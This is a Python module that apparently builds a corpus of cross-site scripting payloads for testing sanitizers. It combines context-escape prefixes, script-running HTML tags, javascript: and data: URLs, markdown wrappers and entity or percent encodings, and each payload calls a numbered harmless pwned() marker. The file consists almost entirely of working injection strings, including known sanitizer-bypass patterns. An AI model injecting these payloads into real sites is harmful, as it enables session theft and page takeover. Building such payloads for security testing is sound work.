"""Texts that try to run ``pwned(N)`` where they are shown, made of ways out of a context and ways to run a script."""

from itertools import product

# {js} is the call. Each of these runs it, or tries to, once it is markup.
_RUNS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<IMG SRC=x OnErRoR='{js}'>",
    "<img src=x\nonerror\n=\n{js}\n>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<video><source onerror={js}></video>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<b onmouseover={js}>x</b>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    '<iframe src="javascript:parent.{js}"></iframe>',
    '<a href="javascript:{js}">x</a>',
    '<a href="jav&#x0A;ascript:{js}">x</a>',
    "<form action=javascript:{js}><button>x</button></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<math><mtext></p><mglyph><style></math><img src=x onerror={js}>",
    "<style><a title='</style><img src=x onerror={js}>'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<p title='<!--'><img src=x onerror={js}>-->",
    "<<img src=x onerror={js}>",
    "<img src=x onerror={js} ",
)
# Ways out of where a text may stand.
_WAYS_OUT = (
    "{run}", '"{run}', "'>{run}", '">{run}', "</textarea>{run}", "</title>{run}", "</script>{run}", "--!>{run}",
    "]]>{run}", "</style></noscript></template>{run}", "`>{run}", "\\\">{run}", "&quot;>{run}",
)  # fmt: skip
# Ways to stay inside a tag, and run all the same.
_ATTRIBUTES = (
    '" autofocus onfocus={js} x="', "' onmouseover='{js}", "x onmouseover={js} y",
    '" style="animation:x" onanimationstart="{js}',
    "` onclick=`{js}", '"onclick={js}//', "'-{js}-'", '"-{js}-"', "\\'-{js}//", "${{js}}", "{{ {js} }}", "{% {js} %}",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "javascript&colon;{js}",
    "&#106;avascript:{js}", "javascript://example.org/%0A{js}", "data:text/html,<script>parent.{js}</script>",
    "vbscript:{js}", "//x\\@javascript:{js}",
)  # fmt: skip
_MARKDOWN = (
    "{run}", "[x]({run})", "[x](<{run}>)", "<{run}>", "![x]({run})", "> {run}", "- {run}", "`{run}`", "**{run}**",
    "[x][1]\n\n[1]: {run}",
)  # fmt: skip


def _as_entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&#x3e;").replace('"', "&quot;")


def _as_percents(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


def _as_escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _as_wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞")


def _templates() -> list[str]:
    found = [out.replace("{run}", run) for out, run in product(_WAYS_OUT, _RUNS)]
    found += [encode(run) for encode, run in product((_as_entities, _as_percents, _as_escapes, _as_wide), _RUNS)]
    found += [mark.replace("{run}", run) for mark, run in product(_MARKDOWN[1:], (*_ADDRESSES, *_RUNS[2:5]))]
    return [*dict.fromkeys([*found, *_ATTRIBUTES, *_ADDRESSES])]


TEMPLATES = _templates()


def payloads(first: int) -> list[str]:
    """Every payload; the first calls ``pwned(first)``, and so on, so that each tells itself from all others."""
    return [template.replace("{js}", f"pwned({number})") for number, template in enumerate(TEMPLATES, first)]


def packed(texts: list[str], most: int) -> list[str]:
    """The texts joined, as many as fit into ``most`` characters."""
    joined = [""]
    for text in texts:
        if len(joined[-1]) + len(text) + 1 > most:
            joined.append("")
        joined[-1] += f"{text} "
    return [each.strip() for each in joined]
